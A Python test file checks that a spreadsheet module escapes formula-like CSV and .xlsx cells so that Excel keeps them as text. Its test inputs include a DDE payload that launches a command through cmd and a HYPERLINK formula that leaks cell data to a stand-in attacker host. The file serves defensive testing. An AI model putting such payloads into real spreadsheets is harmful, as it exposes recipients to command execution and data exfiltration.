"""CSV cells that Excel would run as formulas are written as text, and read back as written."""

from __future__ import annotations

import io

import pytest

from core.spreadsheet import escape_formula, unescape_formula


@pytest.mark.parametrize(
    "cell", ["=1+1", "+81-76-220-2111", "-2+3+cmd|' /C calc'!A0", "@SUM(A1)", "\t=1", "\r=1", "-abc", "--", "-1+1"]
)
def test_formulas_get_a_quote_and_lose_it_again(cell: str) -> None:
    for keep_numbers in (False, True):
        escaped = escape_formula(cell, keep_numbers=keep_numbers)
        assert escaped == "'" + cell and unescape_formula(escaped) == cell


@pytest.mark.parametrize("cell", ["-", "-12", "-1.5", "-.5", "-1e-3"])
def test_negative_numbers_and_a_lone_dash_can_stay_numbers(cell: str) -> None:
    assert escape_formula(cell, keep_numbers=True) == cell
    assert escape_formula(cell) == "'" + cell


@pytest.mark.parametrize("cell", ["", "広坂公民館", "36.5613", "a=b", "'quoted", "'"])
def test_other_text_is_left_alone(cell: str) -> None:
    assert escape_formula(cell) == cell and unescape_formula(cell) == cell


def formulas_in(xlsx: bytes) -> list[str]:
    """Every formula (``<f>`` element) in the worksheets of an .xlsx file, as Excel would run them."""
    import re
    import zipfile

    with zipfile.ZipFile(io.BytesIO(xlsx)) as archive:
        sheets = [name for name in archive.namelist() if name.startswith("xl/worksheets/")]
        return [f for name in sheets for f in re.findall(r"<f[ >].*?</f>", archive.read(name).decode())]


def test_workbook_bytes_stores_formula_like_text_as_text():
    from openpyxl import Workbook, load_workbook

    from core.spreadsheet import workbook_bytes

    workbook = Workbook()
    sheet = workbook.active
    attack = '=HYPERLINK("http://evil.example/?leak="&B2,"会館")'
    sheet.append([attack, "+81-76-220-2111", "@SUM(A1)", "広坂公民館", 12, -3])
    sheet.cell(row=2, column=1, value="=1+1")

    data = workbook_bytes(workbook)

    assert formulas_in(data) == []
    cells = load_workbook(io.BytesIO(data)).active
    assert [c.value for c in cells[1]] == [attack, "+81-76-220-2111", "@SUM(A1)", "広坂公民館", 12, -3]
    assert cells["A1"].data_type == "s" and cells["A1"].quotePrefix  # text, and still text when edited in Excel
    assert cells["A2"].value == "=1+1" and cells["A2"].data_type == "s"
    assert not cells["D1"].quotePrefix and cells["E1"].data_type == "n"
